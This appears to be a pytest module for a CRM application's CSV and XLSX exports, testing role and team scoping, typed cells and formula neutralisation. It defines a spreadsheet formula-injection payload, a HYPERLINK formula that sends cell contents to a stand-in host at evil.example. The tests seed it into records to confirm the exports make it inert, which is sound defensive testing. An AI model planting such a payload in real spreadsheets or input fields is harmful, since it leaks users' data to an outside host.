"""Every list's export as managers and admins download it: typed XLSX cells, a frozen header, no formula handed
to a spreadsheet, the list's own filters and reach (a manager of team A never gets team B; a rep no manager list;
another org nothing), and people named by email and employee number.

One server and one org per stack serve the module.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
import pytest_asyncio
from python_calamine import CalamineWorkbook
from sqlalchemy import select

from podium.core.events import transaction
from podium.core.policies import Role
from podium.customers.models import Customer
from podium.customers import listing
from podium.customers.names import name_key
from podium.db.rows import stream_batches, stream_raw
from podium.orgs import service as orgs
from podium.visits.models import Visit
from tests.conftest import Server, open_stack, start_server, stop_server
from tests.pipeline.test_deals import open_deal
from tests.support import PASSWORD, GraphQLClient, World, make_world

pytestmark = pytest.mark.asyncio(loop_scope="module")

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'
SET_NUMBER = """
mutation N($user: ID!, $number: String!) {
  setEmployeeNumber(userId: $user, employeeNumber: $number) {
    __typename
    ... on PersonSuccess { person { id employeeNumber } }
    ... on OperationError { errors { field code } }
  }
}
"""
PEOPLE = "{ people { email employeeNumber } }"


@dataclass
class Org:
    server: Server
    world: World
    admin: GraphQLClient
    manager: GraphQLClient
    rep: GraphQLClient
    rival_admin: GraphQLClient


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=["embedded", "production"])
async def org(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Org]:
    with pytest.MonkeyPatch.context() as monkeypatch:
        async with open_stack(request.param, tmp_path_factory.mktemp("exports"), tmp_path_factory.getbasetemp(), monkeypatch) as stack:
            server, uvicorn_server, task = await start_server(stack.settings)
            env = server.runtime.env
            world = await make_world(env)
            async with transaction(env.db) as tx:
                await orgs.create_user(
                    tx.session, env, org_id=world.other_org_id, email="admin@rival.test", name="Rolf Rival", password=PASSWORD, role=Role.ADMIN,
                )
                for name, owner in ((EVIL, world.rep.id), ("Bravo B-Team Co", world.rep3.id)):
                    tx.session.add(Customer(
                        org_id=world.org_id, name=name, name_key=name_key(name), address="", latitude=31.2, longitude=121.5, owner_id=owner,
                    ))
            clients = []
            for email in (world.admin.email, world.manager.email, world.rep.email, "admin@rival.test", world.rep3.email):
                client = GraphQLClient(server.url)
                await client.login(email)
                clients.append(client)
            admin, manager, rep, rival, rep3 = clients
            await open_deal(rep, world, title=EVIL, amount="1234.50")
            for client in (rep, rep3):  # a verified visit each, and its points
                assert (await client.log_visit(world, note=EVIL))["__typename"] == "CheckInSuccess"
            await open_deal(admin, world, title="Bravo deal", ownerId=str(world.rep3.id), amount="99.00")
            try:
                yield Org(server, world, admin, manager, rep, rival)
            finally:
                for client in clients:
                    await client.__aexit__(None, None, None)
                await stop_server(uvicorn_server, task)


async def download(client: GraphQLClient, path: str, **params: Any) -> Any:
    return await client.http.get(path, params=params)


def csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response: Any) -> list[list[Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 'state="frozen"' in sheet and "<f>" not in sheet  # a frozen header, and never a formula
    return CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()


async def test_team_deals_export_keeps_the_lists_reach_filters_and_types(org: Org) -> None:
    w = org.world
    as_csv = await download(org.manager, "/api/deals/team/export", format="csv")
    assert f'filename="deals-{date.today().year}' in as_csv.headers["content-disposition"]
    header, *rows = csv_rows(as_csv)
    assert header[:5] == ["商机", "客户", "负责人", "负责人邮箱", "负责人工号"]  # the manager reads Chinese
    assert [(r[0], r[3]) for r in rows] == [("'" + EVIL, w.rep.email)]  # team B's deal is not the manager's
    assert rows[0][header.index("金额")] == "1234.50"

    header, *rows = xlsx_rows(await download(org.admin, "/api/deals/team/export", format="xlsx", sort="AMOUNT", descending="true"))
    assert [r[0] for r in rows] == [EVIL, "Bravo deal"]  # as text, in the list's order
    first = dict(zip(header, rows[0], strict=True))
    assert first["金额"] == 1234.5 and isinstance(first["预计成交日期"], date) and isinstance(first["创建时间"], datetime)
    assert first["赢率"] == pytest.approx(0.1)

    _, *only_b = csv_rows(await download(org.admin, "/api/deals/team/export", teamId=str(w.team_b)))
    assert [r[0] for r in only_b] == ["Bravo deal"]
    assert (await download(org.manager, "/api/deals/team/export", teamId=str(w.team_b))).status_code == 404
    assert (await download(org.manager, "/api/deals/team/export", sort="SIDEWAYS")).status_code == 400
    assert (await download(org.rep, "/api/deals/team/export")).status_code == 403
    assert (await download(org.admin, "/api/deals/team/export", format="pdf")).status_code == 400
    assert csv_rows(await download(org.rival_admin, "/api/deals/team/export"))[1:] == []
    async with GraphQLClient(org.server.url) as anonymous:
        assert (await download(anonymous, "/api/deals/team/export")).status_code == 401


async def test_customer_export_follows_the_lists_reach_and_search(org: Org) -> None:
    header, *rows = csv_rows(await download(org.manager, "/api/customers/export"))
    assert [r[0] for r in rows] == ["'" + EVIL]  # the manager's team only; formulas made inert
    assert rows[0][header.index("负责人邮箱")] == org.world.rep.email
    header, *rows = xlsx_rows(await download(org.admin, "/api/customers/export", format="xlsx", search="bravo"))
    assert [r[0] for r in rows] == ["Bravo B-Team Co"]
    assert dict(zip(header, rows[0], strict=True))["累计成交"] == 0.0
    assert (await download(org.manager, "/api/customers/export", teamId=str(org.world.team_b))).status_code == 404
    assert (await download(org.rep, "/api/customers/export")).status_code == 403
    assert (await download(org.manager, "/api/customers/export", atRisk="maybe")).status_code == 400
    assert all(r[0] != "Bravo B-Team Co" and r[0] != "'" + EVIL for r in csv_rows(await download(org.rival_admin, "/api/customers/export"))[1:])


async def test_admins_set_unique_employee_numbers_and_the_people_export_names_people_by_them(org: Org) -> None:
    w = org.world
    set_rep = await org.admin.data(SET_NUMBER, {"user": str(w.rep.id), "number": "  E-0042 "})
    assert set_rep["setEmployeeNumber"]["person"]["employeeNumber"] == "E-0042"
    taken = await org.admin.data(SET_NUMBER, {"user": str(w.rep2.id), "number": "E-0042"})
    assert taken["setEmployeeNumber"]["errors"] == [{"field": "employeeNumber", "code": "DUPLICATE"}]
    by_manager = await org.manager.data(SET_NUMBER, {"user": str(w.rep2.id), "number": "E-7"})
    assert by_manager["setEmployeeNumber"]["errors"][0]["code"] == "FORBIDDEN"
    across = await org.rival_admin.data(SET_NUMBER, {"user": str(w.rep2.id), "number": "E-7"})
    assert across["setEmployeeNumber"]["errors"][0]["code"] == "NOT_FOUND"
    rival_same = await org.rival_admin.data(SET_NUMBER, {"user": str(w.outsider.id), "number": "E-0042"})  # unique per org only
    assert rival_same["setEmployeeNumber"]["person"]["employeeNumber"] == "E-0042"
    people = {p["email"]: p["employeeNumber"] for p in (await org.admin.data(PEOPLE))["people"]}
    assert people[w.rep.email] == "E-0042" and people[w.rep2.email] is None

    header, *rows = csv_rows(await download(org.manager, "/api/people/export"))
    found = {r[header.index("邮箱")]: r[header.index("工号")] for r in rows}
    assert found[w.rep.email] == "E-0042" and w.rep3.email not in found  # team B is not the manager's
    header, *rows = xlsx_rows(await download(org.admin, "/api/people/export", format="xlsx"))
    assert w.rep3.email in {r[1] for r in rows} and isinstance(rows[0][header.index("加入时间")], datetime)
    assert (await download(org.rep, "/api/people/export")).status_code == 403
    cleared = await org.admin.data(SET_NUMBER, {"user": str(w.rep.id), "number": ""})
    assert cleared["setEmployeeNumber"]["person"]["employeeNumber"] is None


async def test_visits_and_points_exports_cover_the_month_in_reach(org: Org) -> None:
    w = org.world
    header, *rows = csv_rows(await download(org.manager, "/api/visits/export"))
    assert [r[header.index("人员邮箱")] for r in rows] == [w.rep.email]  # not team B's rep3
    assert rows[0][header.index("备注")] == "'" + EVIL and rows[0][header.index("状态")] == "已核实"
    header, *rows = xlsx_rows(await download(org.admin, "/api/visits/export", format="xlsx", nodeId=f"team:{w.team_b}"))
    visit = dict(zip(header, rows[0], strict=True))
    assert len(rows) == 1 and visit["人员邮箱"] == w.rep3.email and isinstance(visit["签到时间"], datetime) and isinstance(visit["距离（米）"], float)
    today = date.today().isoformat()
    assert (await download(org.manager, "/api/visits/export", nodeId=f"team:{w.team_b}")).status_code == 404
    assert (await download(org.manager, "/api/visits/export", **{"from": today, "to": "2020-01-01"})).status_code == 400
    assert (await download(org.rep, "/api/visits/export")).status_code == 403

    header, *rows = csv_rows(await download(org.manager, "/api/points/export"))
    assert {r[header.index("人员邮箱")] for r in rows} == {w.rep.email} and all(int(r[header.index("积分")]) > 0 for r in rows)
    header, *rows = xlsx_rows(await download(org.admin, "/api/points/export", format="xlsx", userId=str(w.rep3.id)))
    assert {r[header.index("人员邮箱")] for r in rows} == {w.rep3.email} and isinstance(rows[0][header.index("积分")], float)
    assert (await download(org.manager, "/api/points/export", userId=str(w.rep3.id))).status_code == 404
    assert (await download(org.rep, "/api/points/export")).status_code == 403
    assert csv_rows(await download(org.rival_admin, "/api/points/export"))[1:] == []
    assert csv_rows(await download(org.rival_admin, "/api/visits/export"))[1:] == []


async def test_the_drivers_rows_are_typed_as_the_orm_types_them_and_bound_as_it_binds(org: Org) -> None:
    """Exports read through the driver: the same values as a session gives (Decimal, aware UTC datetimes, None),
    an IN list expanded and an aware datetime filter bound as the ORM binds it (on SQLite: naive UTC text)."""
    env, w = org.server.runtime.env, org.world
    async with env.db() as session:
        first = (await session.execute(select(Visit.occurred_at).where(Visit.org_id == w.org_id).order_by(Visit.occurred_at))).scalars().first()
        assert first is not None
        queries = [
            select(*listing.EXPORTED).where(Customer.org_id == w.org_id, Customer.owner_id.in_([w.rep.id, w.rep3.id])).order_by(Customer.id),
            # >= the earliest visit itself: an unbound aware datetime would compare as other text on SQLite and miss it
            select(Visit.id, Visit.user_id, Visit.occurred_at, Visit.reviewed_at, Visit.distance_m, Visit.status)
            .where(Visit.org_id == w.org_id, Visit.occurred_at >= first).order_by(Visit.id),
        ]
        expected = [[tuple(r) for r in (await session.execute(q)).all()] for q in queries]
    for query, wanted in zip(queries, expected, strict=True):
        got = [row async for batch in stream_raw(env.db, query, batch=1) for row in batch]
        assert got == wanted and len(got) >= 2
        assert [tuple(r) async for batch in stream_batches(env.db, query) for r in batch] == wanted
    customers = [row async for batch in stream_raw(env.db, queries[0]) for row in batch]
    assert all(isinstance(r[listing.EXPORTED.index(Customer.open_pipeline)], Decimal) for r in customers)
    visits = [r async for batch in stream_batches(env.db, queries[1]) for r in batch]
    assert all(v.occurred_at.tzinfo is UTC for v in visits) and {v.user_id for v in visits} >= {w.rep.id, w.rep3.id}
